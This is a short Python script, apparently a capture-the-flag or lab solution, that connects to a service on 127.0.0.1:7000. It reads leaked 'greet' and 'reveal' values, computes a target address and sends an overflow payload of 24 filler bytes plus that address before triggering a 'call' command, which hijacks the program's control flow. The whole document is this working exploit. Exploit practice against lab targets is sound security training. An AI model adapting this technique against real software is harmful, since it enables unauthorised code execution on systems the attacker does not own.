import socket

with socket.create_connection(("127.0.0.1", 7000)) as link:
    talk = link.makefile("rwb", buffering=0)

    def ask(line):
        talk.write(line + b"\n")
        return talk.readline().decode().strip()

    there = dict(part.split("=") for part in ask(b"about").split())
    address = int(there["greet"], 16) + int(there["reveal"])
    ask(b"name " + (b"x" * 24 + address.to_bytes(8, "little")).hex().encode())
    print(ask(b"call"))
